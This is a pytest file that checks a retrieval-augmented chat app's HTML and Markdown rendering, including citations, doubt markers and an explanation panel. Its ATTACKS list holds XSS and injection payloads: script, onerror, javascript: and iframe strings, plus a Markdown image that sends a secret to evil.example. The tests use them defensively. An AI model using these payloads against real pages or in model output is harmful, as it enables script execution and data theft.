"""Text from documents, models and users is readable and inert."""

from datetime import UTC, datetime, timedelta

import pytest

from rag_app.ui import formatting, render, why
from rag_core.models import (
    Answer,
    Citation,
    Explain,
    Passage,
    SentenceSupport,
    Timings,
    Tokens,
    Why,
)
from rag_core.text.words import words

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![stolen](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example/x",
    "www.evil.example",
    "</details></div><h1>Ragdock</h1>",
    "a\n\n# Heading\n\n<iframe src=//evil.example>",
]


def said(written: str) -> str:
    """A model's text as the chat shows it, without the surrounding box."""
    shown = render.model_markdown(written)
    assert shown.startswith('<div class="rd-said">')
    return shown.removeprefix('<div class="rd-said">').removesuffix("</div>")


def test_words_of_the_question_are_marked_in_every_script() -> None:
    shown = formatting.lines(
        "\u6cf5\u7684\u538b\u529b <40> reads", words("\u6cf5\u7684\u538b\u529b? reading")
    )
    assert shown == "<mark>\u6cf5\u7684\u538b\u529b</mark> &lt;40&gt; <mark>reads</mark>"
    apart = formatting.lines("\u6cf5\u7684\u538b\u529b", words("\u538b\u529b"))
    assert apart == "\u6cf5\u7684<mark>\u538b\u529b</mark>"


@pytest.mark.parametrize("attack", ATTACKS)
def test_passages_stay_inside_their_box(attack: str) -> None:
    """A blank line would end the HTML block, and Markdown would read what follows."""
    citation = Citation(
        number=1, document_id="x", document=attack, title=attack, page_start=3, page_end=4, passage=attack
    )
    answer = Answer(answer="Yes [1].", citations=(citation,), model="m", timings=Timings(total=1.0))
    [_, sources, _] = render.answer_markdown(answer, f"What of {attack}?").split("\n\n")
    assert sources.startswith('<div class="rd-sources">')
    assert sources.endswith("</details></div>")
    assert sources.count("<details") == sources.count("</details>") == 1
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in sources


def cited(*also_in: str) -> str:
    """The sources of an answer whose passage is also in these documents."""
    one = Citation(
        number=1, document_id="x", document="a.pdf", page_start=3, page_end=3, passage="So.", also_in=also_in
    )
    return render.answer_markdown(Answer(answer="Yes [1].", citations=(one,), model="m")).split("\n\n")[1]


def test_a_source_names_the_other_documents_with_the_same_passage() -> None:
    shown = cited("b.pdf", "minutes & notes.txt")
    also = '<span class="rd-also">The same passage is also in b.pdf, minutes &amp; notes.txt.</span>'
    assert f"</blockquote>{also}<button" in shown


def test_of_many_documents_with_the_same_passage_five_are_named() -> None:
    shown = cited(*(f"copy {number}" for number in range(12)))
    assert "copy 3, copy 4, 7 more.</span>" in shown
    assert "copy 5" not in shown


def test_a_passage_of_one_document_says_nothing_of_copies() -> None:
    assert "rd-also" not in cited()


def test_nearest_passages_name_their_copies_too() -> None:
    passage = Passage(
        document_id="x",
        document="a.pdf",
        title="",
        page_start=7,
        page_end=7,
        text="Near.",
        score=0.1,
        also_in=("b.pdf",),
    )
    shown = render.answer_markdown(Answer(answer="Not held.", passages=(passage,)))
    assert "also in b.pdf." in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_names_of_copies_stay_inside_their_box(attack: str) -> None:
    shown = cited(attack, attack)
    assert shown.startswith('<div class="rd-sources">')
    assert shown.count("<details") == shown.count("</details>") == 1
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://", "\n"):
        assert forbidden not in shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_reasons_for_an_answer_stay_inside_their_box(attack: str) -> None:
    passage = Passage(
        document_id="x", document=attack, title=attack, page_start=3, page_end=4, text=attack, score=0.1
    )
    answer = Answer(answer="Yes.", passages=(passage,), model=attack)
    *_, why, foot = render.answer_markdown(answer).split("\n\n")
    assert why.startswith('<details class="rd-why">')
    assert why.endswith("</details>")
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in why + foot


def test_code_is_left_as_it_is() -> None:
    shown = said("Write `x <- c(1)` or\n```r\ny <- a[1]\n\nz\n```\nand z < 3 [1].")
    assert "<code>x &lt;- c(1)</code>" in shown
    assert "<pre><code>y &lt;- a&#91;1&#93;&#10;&#10;z</code></pre>" in shown
    assert "z &lt; 3 <button" in shown


def test_an_index_is_no_mark() -> None:
    shown = said("The first is x[1], and a component is Lst[[2]].\n[1] 10.4")
    assert "<button" not in shown


def test_marks_become_something_to_click() -> None:
    assert said("So [1, 2] it is [12].") == (
        '<p>So <button class="rd-cite" value="1" title="Read source 1">1</button>'
        '<button class="rd-cite" value="2" title="Read source 2">2</button>'
        ' it is <button class="rd-cite" value="12" title="Read source 12">12</button>.</p>'
    )


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("a *b* **c** ~~d~~", "<p>a <em>b</em> <strong>c</strong> <s>d</s></p>"),
        ("# A\n\nB\n===\n\n---", "<h1>A</h1><h1>B</h1><hr>"),
        ("- a\n  - b\n\n3. c", '<ul><li>a<ul><li>b</li></ul></li></ul><ol start="3"><li>c</li></ol>'),
        ("> a\n> b", "<blockquote><p>a<br>b</p></blockquote>"),
        (
            "| a | b |\n|---|:-:|\n| 1 | 2 |",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
        ),
        ("1&#10;&#10;2&nbsp;3", "<p>1  2\xa03</p>"),
    ],
)
def test_what_markdown_is_for_is_shown(written: str, html: str) -> None:
    assert said(written) == html


def test_gradios_templates_are_not_run() -> None:
    shown = formatting.text("${alert(1)} {{#each x}} <b>")
    assert "${" not in shown
    assert "{{" not in shown
    assert "<" not in shown


def test_answer_without_citation_offers_what_was_found() -> None:
    passage = Passage(
        document_id="x", document="a.pdf", title="", page_start=7, page_end=7, text="Near.", score=0.1
    )
    answer = Answer(answer="Not held.", passages=(passage,), reason="no_relevant_passage")
    shown = render.answer_markdown(answer)
    assert "Nearest passages" in shown
    assert "<b>a.pdf</b>, page 7" in shown


def _answer(text: str, *sentences: tuple[str, tuple[int, ...]], **more: object) -> Answer:
    supports = tuple(SentenceSupport(text=words, citations=marks) for words, marks in sentences)
    return Answer.model_validate({"answer": text, "sentences": supports, "model": "m", **more})


def test_sentence_without_support_is_told_apart() -> None:
    shown = render.answer_markdown(
        _answer("It is so. [1] It is big.", ("It is so.", (1,)), ("It is big.", ()))
    )
    assert '<span class="rd-unsupported">It is big.</span><sup class="rd-doubt"' in shown
    assert "It is so. <button" in shown
    assert "not wholly supported by any passage" in shown


def test_supported_answer_is_not_doubted() -> None:
    shown = render.answer_markdown(_answer("It is so. [1]", ("It is so.", (1,))))
    assert "rd-doubt" not in shown
    assert "not wholly supported by any passage" not in shown


DOUBT = '<sup class="rd-doubt" title="No passage supports all of this sentence">?</sup>'


@pytest.mark.parametrize(
    ("written", "sentences", "html"),
    [
        ("# Head one.", ["# Head one."], "<h1>[Head one.]</h1>"),
        ("- a first.\n- a second.", ["- a second."], "<ul><li>a first.</li><li>[a second.]</li></ul>"),
        ("2. a second.", ["2. a second."], '<ol start="2"><li>[a second.]</li></ol>'),
        ("**Bold one. Bold two.** So.", ["Bold two.**"], "<p><strong>Bold one. [Bold two.]</strong> So.</p>"),
        (
            "It is **so** [1], here.",
            ["It is **so**, here."],
            "<p>{It is }<strong>{so}</strong>{ }@{, here.]</p>",
        ),
        ("Use `x = 1.` now.", ["Use `x = 1.` now."], "<p>{Use }<code>{x = 1.}</code>{ now.]</p>"),
        (
            "```\nthe end\n```\nAll is the end.",
            ["the end"],
            "<pre><code>the end</code></pre><p>All is the end.</p>",
        ),
        ("Another thing.\nThe thing.", ["thing."], "<p>Another [thing.]<br>The thing.</p>"),
        (
            "\u5b83\u662f\u5927\u7684\u3002",
            ["\u5b83\u662f\u5927\u7684\u3002"],
            "<p>[\u5b83\u662f\u5927\u7684\u3002]</p>",
        ),
        ("| one cell |\n|---|\n| two cell |", ["| two cell |"], None),
    ],
)
def test_a_sentence_in_doubt_is_marked_and_markdown_stays_whole(
    written: str, sentences: list[str], html: str | None
) -> None:
    """In the expected HTML, [ and ] enclose a sentence, { and } a part of one, and @ is a citation."""
    shown = render.answer_markdown(_answer(written, *((one, ()) for one in sentences))).split("\n\n")[0]
    shown = shown.removeprefix('<div class="rd-said">').removesuffix("</div>")
    if html is None:
        assert f'<td><span class="rd-unsupported">two cell</span>{DOUBT}</td>' in shown
        return
    cite = '<button class="rd-cite" value="1" title="Read source 1">1</button>'
    opened = '<span class="rd-unsupported">'
    expected = html.replace("[", opened).replace("{", opened).replace("}", "</span>")
    assert shown == expected.replace("]", f"</span>{DOUBT}").replace("@", cite)


def test_same_sentence_twice_is_marked_in_its_own_place() -> None:
    shown = render.answer_markdown(_answer("So. [1] So.", ("So.", (1,)), ("So.", ())))
    assert shown.startswith('<div class="rd-said"><p>So. <button')
    assert '<span class="rd-unsupported">So.</span>' in shown


def test_words_of_the_question_are_marked_in_the_passage() -> None:
    shown = formatting.lines("Matrices are solved\nhere.", words("How to solve a matrix?"))
    assert shown == "Matrices are <mark>solved</mark><br>here."


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_whole_explanation_is_shown_and_harmless(attack: str) -> None:
    explain = Explain(
        query=attack,
        rewritten=True,
        routing=attack,
        needed=0.3,
        nearest=0.61,
        words={attack: 12},
        passages=(
            Why(
                document_id="x",
                document="a.pdf",
                page_start=3,
                page_end=3,
                score=0.1,
                bm25_rank=2,
                bm25_score=7.0,
                vector_rank=None,
                similarity=0.5,
                words=("green", attack),
                given=True,
            ),
        ),
    )
    shown = why.panel(_answer("So.", explain=explain, tokens=Tokens(prompt=812, answer=40)))
    assert "completed from the conversation" in shown
    assert "nearest passage 0.61" in shown
    assert "<td>green, " in shown
    assert "<dd>812</dd>" in shown
    assert "\n" not in shown
    for forbidden in ("<script", "<img", "<iframe", "<h1", "<a", "](", "://"):
        assert forbidden not in shown


def test_remembered_answer_says_so() -> None:
    assert "remembered</span>" in render.answer_markdown(_answer("So.", cached=True))
    assert "remembered" not in render.answer_markdown(_answer("So."))


def test_degraded_answer_says_so() -> None:
    answer = Answer(answer="Well.", model="small", degraded=True, reason="fallback_model")
    assert render.REASONS["fallback_model"] in render.answer_markdown(answer)


@pytest.mark.parametrize(
    ("seconds", "words"),
    [(5, "just now"), (61, "1 minute ago"), (7300, "2 hours ago"), (200_000, "2 days ago")],
)
def test_ages_for_people(seconds: int, words: str) -> None:
    assert formatting.ago(datetime.now(UTC) - timedelta(seconds=seconds)) == words
